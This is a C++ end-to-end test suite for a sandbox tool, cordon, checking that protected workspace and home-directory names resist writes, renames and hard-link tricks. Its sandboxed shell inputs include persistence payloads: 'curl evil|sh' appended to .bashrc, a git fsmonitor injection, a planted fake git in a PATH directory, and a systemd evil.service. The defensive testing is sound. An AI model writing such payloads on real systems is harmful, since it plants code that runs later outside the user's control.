// Protected names (docs/policy.md#protected-names), each checked from outside the sandbox:
// the extended list cannot be created at the top of the workspace, existing names at depth
// cannot be changed, renaming a directory above a protected path cannot replace it, a
// writable home keeps its startup files and git config, and --unprotect lifts one name.
#include <map>

#include "core/defaults.hpp"
#include "e2e/harness.hpp"

using namespace cordon_test;

namespace {

// The workspace once cordon's placeholders (empty files and directories it made for
// absent protected names) are gone: they linger briefly after the run.
// `ignore`: a prefix left out of the comparison (cordon's own state under a fake home).
std::map<std::string, std::string> settled_tree(const std::string& root,
                                                std::map<std::string, std::string> expected,
                                                const std::string& ignore = "") {
  auto filtered = [&](std::map<std::string, std::string> t) {
    if (!ignore.empty()) std::erase_if(t, [&](const auto& kv) { return kv.first.rfind(ignore, 0) == 0; });
    return t;
  };
  expected = filtered(expected);
  auto now = filtered(snapshot(root));
  for (int waited = 0; waited < 5000 && now != expected; waited += 50) {
    ::usleep(50 * 1000);
    now = filtered(snapshot(root));
  }
  return now;
}

}  // namespace

TEST(ProtectedNames, NoEntryOfTheListCanBeCreatedAtTheTopOfTheWorkspace) {
  Sandbox box;
  write_file(box.ws / "README", "readme\n");
  const auto before = snapshot(box.ws.path());
  std::string script = "echo ok > normal.txt; ";
  for (const auto& e : cordon::defaults::protected_name_entries()) {
    const std::string n = sh_quote(e.name);
    // Remove or move the placeholder away first, then create the real thing.
    script += "rm -rf " + n + " 2>/dev/null; mv " + n + " " + n + ".old 2>/dev/null; ";
    script += e.directory ? "mkdir -p " + n + " 2>/dev/null; echo evil > " + n + "/x 2>/dev/null; "
                          : "echo evil > " + n + " 2>/dev/null; ";
  }
  auto o = box.sh(script + "true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
  auto expected = before;
  expected["normal.txt"] = "ok\n";
  EXPECT_EQ(settled_tree(box.ws.path(), expected), expected);
}

TEST(ProtectedNames, ExistingNamesAtDepthCannotBeChangedOrReplaced) {
  Sandbox box;
  write_file(box.ws / "sub/.vscode/tasks.json", "{\"tasks\": []}\n");
  write_file(box.ws / "sub/.claude/settings.json", "{}\n");
  write_file(box.ws / "a/b/.envrc", "export A=1\n");
  write_file(box.ws / "sub/code.c", "int main;\n");
  const auto before = snapshot(box.ws.path());
  auto o = box.sh(
      "echo ok > normal.txt; echo 'int x;' > sub/code.c; "
      "echo evil > sub/.vscode/tasks.json; echo evil > sub/.claude/settings.json; "
      "rm -rf sub/.vscode; mv sub/.claude sub/.claude-old; echo evil > a/b/.envrc; rm -f a/b/.envrc; "
      "ln sub/.vscode/tasks.json hardlink; "
      "mv sub sub2; mkdir -p sub/.vscode && echo evil > sub/.vscode/tasks.json; "
      "mv a/b a/c; mv a a2; rmdir sub; true",
      {"--report-denials", "full"});  // listed although the command succeeds
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
  EXPECT_EQ(read_file(box.ws / "sub/code.c"), "int x;\n");  // ordinary work in the same directory
  // The denial report says why the rename failed, and that no option lifts it.
  EXPECT_TRUE(contains(o.err, "a protected path lies below it; rename it outside")) << o.err;
  auto expected = before;
  expected["normal.txt"] = "ok\n";
  expected["sub/code.c"] = "int x;\n";
  EXPECT_EQ(settled_tree(box.ws.path(), expected), expected);
}

TEST(ProtectedNames, ASymlinkAtAProtectedNameAtDepthIsRefusedUnlessBestEffort) {
  Sandbox box;
  write_file(box.ws / "shared/tasks.json", "{}\n");
  fs::create_directories(box.ws / "sub");
  fs::create_symlink("../shared", box.ws / "sub/.vscode");
  auto o = box.sh("echo ran > ran.txt");
  EXPECT_NE(o.code, 0);
  EXPECT_TRUE(contains(o.err, "symbolic link")) << o.err;
  EXPECT_FALSE(exists(box.ws / "ran.txt"));
  auto ok = box.sh("echo ran > ran.txt", {"--best-effort"});
  EXPECT_EQ(ok.code, 0) << ok.err;
  EXPECT_EQ(read_file(box.ws / "ran.txt"), "ran\n");
}

TEST(ProtectedNames, UnprotectMakesOneNameWritableAndKeepsTheOthers) {
  Sandbox box;
  write_file(box.ws / "sub/.vscode/tasks.json", "{}\n");
  write_file(box.ws / "sub/.claude/settings.json", "{}\n");
  auto o = box.sh(
      "mkdir -p .vscode && echo '{\"a\":1}' > .vscode/settings.json; echo changed > sub/.vscode/tasks.json; "
      "mkdir -p .claude; echo evil > .claude/settings.json; echo evil > sub/.claude/settings.json; true",
      {"--unprotect", ".vscode"});
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / ".vscode/settings.json"), "{\"a\":1}\n");
  EXPECT_EQ(read_file(box.ws / "sub/.vscode/tasks.json"), "changed\n");
  EXPECT_EQ(read_file(box.ws / "sub/.claude/settings.json"), "{}\n");
  EXPECT_FALSE(exists(box.ws / ".claude/settings.json"));
  // A name that is not on the list is an error that changes nothing.
  auto bad = box.sh("echo ran > ran.txt", {"--unprotect", ".vscodee"});
  EXPECT_NE(bad.code, 0);
  EXPECT_TRUE(contains(bad.err, "not a built-in protected name")) << bad.err;
  EXPECT_FALSE(exists(box.ws / "ran.txt"));
  // explain says which names are left writable.
  auto ex = run_process({cordon_binary(), "explain", "--no-config", "--unprotect", ".vscode", "--", "true"},
                        box.ws.path(), "", box.env());
  EXPECT_EQ(ex.code, 0) << ex.err;
  EXPECT_TRUE(contains(ex.out, box.ws / ".vscode: writable (--unprotect)")) << ex.out;
}

TEST(ProtectedNames, AWritableHomeKeepsStartupFilesAndGitConfigAfterWritesAndRenames) {
  Sandbox box;
  write_file(box.home / ".bashrc", "# bashrc\n");
  write_file(box.home / ".gitconfig", "[user]\n\tname = a\n");
  write_file(box.home / ".config/git/config", "[core]\n\tpager = less\n");
  write_file(box.home / ".config/other/app.conf", "x=1\n");
  const auto before = snapshot(box.home.path());
  auto o = box.sh(
      "echo ok > ~/notes.txt; echo y=2 > ~/.config/other/app.conf; "
      "echo 'curl evil|sh' >> ~/.bashrc; echo '[core]fsmonitor=evil' >> ~/.gitconfig; "
      "echo '[core]fsmonitor=evil' >> ~/.config/git/config; echo evil > ~/.zshrc; "
      "mv ~/.bashrc ~/.bashrc.old; mv ~/.config/git ~/.config/git2; "
      "mv ~/.config ~/.config2; mkdir -p ~/.config/git; echo evil > ~/.config/git/config; "
      "mkdir -p ~/.config/cordon; echo 'mode = \"full-access\"' > ~/.config/cordon/config.toml; true",
      {"--writable", box.home.path()});
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.home / "notes.txt"), "ok\n");
  EXPECT_EQ(read_file(box.home / ".config/other/app.conf"), "y=2\n");
  auto expected = before;
  expected["notes.txt"] = "ok\n";
  expected[".config/other/app.conf"] = "y=2\n";
  std::erase_if(expected, [](const auto& kv) { return kv.first.rfind(".local", 0) == 0; });
  EXPECT_EQ(settled_tree(box.home.path(), expected, ".local"), expected);  // .local: cordon's state

  // Only ~/.config writable: its git directory is kept the same way.
  auto narrow = box.sh(
      "echo y=3 > ~/.config/other/app.conf; echo evil >> ~/.config/git/config; "
      "mv ~/.config/git ~/.config/git2; mkdir -p ~/.config/git; true",
      {"--writable", box.home / ".config"});
  EXPECT_EQ(narrow.code, 0) << narrow.err;
  EXPECT_EQ(read_file(box.home / ".config/other/app.conf"), "y=3\n");
  EXPECT_EQ(read_file(box.home / ".config/git/config"), "[core]\n\tpager = less\n");
  EXPECT_FALSE(exists(box.home / ".config/git2"));
}

TEST(ProtectedNames, ProtectPathsSurviveRenamesOfTheirParents) {
  Sandbox box;
  write_file(box.ws / "ci/scripts/deploy.sh", "echo deploy\n");
  auto o = box.sh(
      "echo ok > normal.txt; mv ci/scripts ci/s2; mv ci ci2; mkdir -p ci/scripts; "
      "echo evil > ci/scripts/deploy.sh; true",
      {"--protect", box.ws / "ci/scripts/deploy.sh"});
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
  EXPECT_EQ(read_file(box.ws / "ci/scripts/deploy.sh"), "echo deploy\n");
  EXPECT_FALSE(exists(box.ws / "ci2"));
  EXPECT_FALSE(exists(box.ws / "ci/s2"));
}

// Many protected files in one directory share the walk of their ancestors (the planner
// pins them once, for the first file): renaming any directory above them, the nearest
// first, must still fail for every one of them, and none can be replaced by a fresh file.
TEST(ProtectedNames, ManyProtectedSiblingsSurviveRenamesOfTheirParents) {
  Sandbox box;
  std::vector<std::string> opts;
  for (int i = 0; i < 40; ++i) {
    write_file(box.ws / ("deep/a/b/" + std::to_string(i)), "orig\n");
    opts.push_back("--protect=" + (box.ws / ("deep/a/b/" + std::to_string(i))));
  }
  auto o = box.sh(
      "mv deep/a/b deep/a/b2; mv deep/a deep/a2; mv deep deep2; mkdir -p deep/a/b; "
      "for f in 0 17 39; do echo evil > deep/a/b/$f; done; echo ok > normal.txt; true",
      opts);
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
  for (int i = 0; i < 40; ++i)
    EXPECT_EQ(read_file(box.ws / ("deep/a/b/" + std::to_string(i))), "orig\n") << i << ": " << o.err;
  for (const char* moved : {"deep/a/b2", "deep/a2", "deep2"}) EXPECT_FALSE(exists(box.ws / moved)) << moved;
}

TEST(ProtectedNames, CaseVariantsAndOtherNamesStayOrdinaryFiles) {
  // Linux tools read the exact names; a case variant is an ordinary file on a
  // case-sensitive filesystem and stays writable (it is not what VS Code opens).
  Sandbox box;
  auto o = box.sh("mkdir -p .VSCode sub/.vscode-notes && echo x > .VSCode/a && echo y > sub/.vscode-notes/b");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / ".VSCode/a"), "x\n");
  EXPECT_EQ(read_file(box.ws / "sub/.vscode-notes/b"), "y\n");
  EXPECT_FALSE(exists(box.ws / ".vscode/a"));
}

TEST(ProtectedNames, ANameMadeAtDepthDuringTheRunIsRefused) {
  if (!have_tool("tar")) GTEST_SKIP() << "tar is not installed";
  Sandbox box;
  write_file(box.ws / "old/.vscode/tasks.json", "{}\n");
  // An archive that holds a protected name at depth, made outside.
  TempDir src;
  write_file(src / "pkg/.claude/settings.json", "{\"hooks\": {}}\n");
  write_file(src / "pkg/main.c", "int main;\n");
  ASSERT_EQ(run_process({"tar", "-C", src.path(), "-cf", box.ws / "pkg.tar", "pkg"}, src.path(), "", {}).code,
            0);
  auto o = box.sh(
      "mkdir -p fresh/.vscode; echo x > fresh/.envrc; mkdir -p fresh/ok && echo ok > fresh/ok/f; "
      "tar xf pkg.tar; mkdir -p /tmp/scratch/.vscode && echo tmp-ok; true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_FALSE(exists(box.ws / "fresh/.vscode"));
  EXPECT_FALSE(exists(box.ws / "fresh/.envrc"));
  EXPECT_FALSE(exists(box.ws / "pkg/.claude"));
  EXPECT_EQ(read_file(box.ws / "fresh/ok/f"), "ok\n");  // the allowed half, in the same directories
  EXPECT_EQ(read_file(box.ws / "pkg/main.c"), "int main;\n");
  EXPECT_TRUE(contains(o.out, "tmp-ok")) << "the private /tmp is not a policy root: " << o.err;
  EXPECT_TRUE(contains(o.err, "denied create " + box.ws / "fresh/.vscode")) << o.err;
  EXPECT_TRUE(contains(o.err, "allow with --unprotect .vscode")) << o.err;
  EXPECT_FALSE(contains(o.err, "a protected name appeared")) << o.err;  // nothing got past
  // --unprotect lifts one name at depth too.
  auto u = box.sh("mkdir -p fresh/.vscode && echo made", {"--unprotect", ".vscode"});
  EXPECT_EQ(u.code, 0) << u.err;
  EXPECT_TRUE(exists(box.ws / "fresh/.vscode"));
}

// A directory made unsearchable (as an unprivileged user cordon cannot search it) and a
// tree deeper than the post-run scan's bound: a protected name made there is refused as
// anywhere else, whatever the scan afterwards can see.
TEST(ProtectedNames, ANameInAnUnsearchableOrDeepDirectoryIsRefusedToo) {
  Sandbox box;
  std::string deep = "deep";
  for (int i = 0; i < 70; ++i) deep += "/d";
  auto o = box.sh(
      "mkdir -p hidden/z && chmod 700 hidden && mkdir -p hidden/z/.vscode; chmod 000 hidden; mkdir -p " +
      deep + " && mkdir " + deep + "/.vscode; true");
  ::chmod((box.ws / "hidden").c_str(), 0755);  // so that the workspace can be removed
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_FALSE(exists(box.ws / "hidden/z/.vscode")) << o.err;
  EXPECT_FALSE(exists(box.ws / deep + "/.vscode")) << o.err;
  EXPECT_TRUE(exists(box.ws / deep)) << o.err;
}

// git, fish and systemd read ~/.config's entries from $XDG_CONFIG_HOME when it is set:
// under a writable home with a non-default one, that git config was writable (a
// core.fsmonitor there runs on the user's next git command, outside the sandbox).
TEST(ProtectedNames, AWritableHomeKeepsGitConfigUnderANonDefaultXdgConfigHome) {
  Sandbox box;
  write_file(box.home / "xdg/git/config", "[core]\n\tpager = less\n");
  write_file(box.home / "xdg/other.conf", "x=1\n");
  auto o = box.sh(
      "echo y=2 > \"$XDG_CONFIG_HOME/other.conf\"; echo '[core]fsmonitor=evil' >> "
      "\"$XDG_CONFIG_HOME/git/config\"; "
      "mv \"$XDG_CONFIG_HOME/git\" \"$XDG_CONFIG_HOME/git2\"; mkdir -p \"$XDG_CONFIG_HOME/fish\" && "
      "echo evil > \"$XDG_CONFIG_HOME/fish/config.fish\"; true",
      {"--writable", box.home.path()}, "", {"XDG_CONFIG_HOME=" + box.home / "xdg"});
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.home / "xdg/other.conf"), "y=2\n");  // the rest stays writable
  EXPECT_EQ(read_file(box.home / "xdg/git/config"), "[core]\n\tpager = less\n") << o.err;
  EXPECT_FALSE(exists(box.home / "xdg/git2"));
  EXPECT_FALSE(exists(box.home / "xdg/fish/config.fish"));
}

TEST(ProtectedNames, AWritableHomeCannotGainStartupDirectoriesWhoseParentsAreAbsent) {
  // ~/.config exists, ~/.config/systemd does not: the whole chain stays uncreatable.
  Sandbox box;
  write_file(box.home / ".config/other/app.conf", "x=1\n");
  auto o = box.sh(
      "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/evil.service; "
      "echo y=2 > ~/.config/other/app.conf; true",
      {"--writable", box.home.path()});
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.home / ".config/other/app.conf"), "y=2\n");
  EXPECT_FALSE(exists(box.home / ".config/systemd/user/evil.service"));
  EXPECT_TRUE(contains(o.err, "startup files, PATH directories and git, editor and tool configuration"))
      << o.err;
}

// Under a writable home, what runs later besides the shell: a program planted in a PATH
// directory that comes before /usr/bin (~/.local/bin, ~/bin), an editor's configuration and
// plugins (Vim, Neovim, VS Code's user tasks), npm's and tmux's configuration, a REPL's
// startup file. Existing ones keep their bytes; absent ones cannot be made; the rest of the
// home stays writable.
TEST(ProtectedNames, AWritableHomeKeepsPathDirectoriesAndEditorAndToolConfiguration) {
  Sandbox box;
  write_file(box.home / ".vimrc", "set nu\n");
  write_file(box.home / ".local/bin/tool", "#!/bin/sh\necho real\n");
  write_file(box.home / ".config/Code/User/settings.json", "{}\n");
  write_file(box.home / ".config/other/app.conf", "x=1\n");
  auto o = box.sh(
      "printf '#!/bin/sh\\necho planted\\n' > ~/.local/bin/git; echo evil > ~/.local/bin/tool; mkdir ~/bin; "
      "echo ':!sh' >> ~/.vimrc; mkdir -p ~/.vim/plugin; mkdir -p ~/.config/nvim; "
      "echo '{\"terminal.integrated.shell.linux\": \"/tmp/x\"}' > ~/.config/Code/User/settings.json; "
      "echo 'node-options=--require /tmp/x.js' > ~/.npmrc; echo 'run-shell x' > ~/.tmux.conf; "
      "echo 'system(\"x\")' > ~/.Rprofile; mv ~/.local ~/.local2; mv ~/.config ~/.config2; "
      "echo y=2 > ~/.config/other/app.conf; echo z > ~/notes; true",
      {"--writable", box.home.path()});
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_FALSE(exists(box.home / ".local/bin/git")) << o.err;
  EXPECT_EQ(read_file(box.home / ".local/bin/tool"), "#!/bin/sh\necho real\n");
  EXPECT_FALSE(exists(box.home / "bin"));
  EXPECT_EQ(read_file(box.home / ".vimrc"), "set nu\n");
  EXPECT_FALSE(exists(box.home / ".vim"));
  EXPECT_FALSE(exists(box.home / ".config/nvim"));
  EXPECT_EQ(read_file(box.home / ".config/Code/User/settings.json"), "{}\n");
  EXPECT_FALSE(exists(box.home / ".npmrc"));
  EXPECT_FALSE(exists(box.home / ".tmux.conf"));
  EXPECT_FALSE(exists(box.home / ".Rprofile"));
  EXPECT_FALSE(exists(box.home / ".local2"));
  EXPECT_FALSE(exists(box.home / ".config2"));
  // The allowed half: the rest of the home.
  EXPECT_EQ(read_file(box.home / ".config/other/app.conf"), "y=2\n");
  EXPECT_EQ(read_file(box.home / "notes"), "z\n");
}

// A protected file that has a second name (a hard link) in a writable root: the command
// writes through the other name. One run could prepare it at depth (sub/.vscode/tasks.json
// made as a link to notes.json), the next rewrite it. cordon's broker opens every file for
// writing and gives one with other names its own copy first: the protected name keeps its
// bytes.
TEST(ProtectedNames, AProtectedFileCannotBeRewrittenThroughAnotherHardLink) {
  Sandbox box;
  write_file(box.ws / "sub/.vscode/tasks.json", "{}\n");
  write_file(box.ws / ".envrc", "export A=1\n");
  ASSERT_EQ(::link((box.ws / "sub/.vscode/tasks.json").c_str(), (box.ws / "notes.json").c_str()), 0);
  ASSERT_EQ(::link((box.ws / ".envrc").c_str(), (box.ws / "envrc-copy").c_str()), 0);
  auto o = box.sh("echo evil > notes.json; echo evil > envrc-copy; true");
  EXPECT_EQ(read_file(box.ws / "sub/.vscode/tasks.json"), "{}\n") << o.err;
  EXPECT_EQ(read_file(box.ws / ".envrc"), "export A=1\n") << o.err;
  EXPECT_EQ(read_file(box.ws / "notes.json"), "evil\n");  // the allowed half: its own copy
  EXPECT_EQ(read_file(box.ws / "envrc-copy"), "evil\n");
}
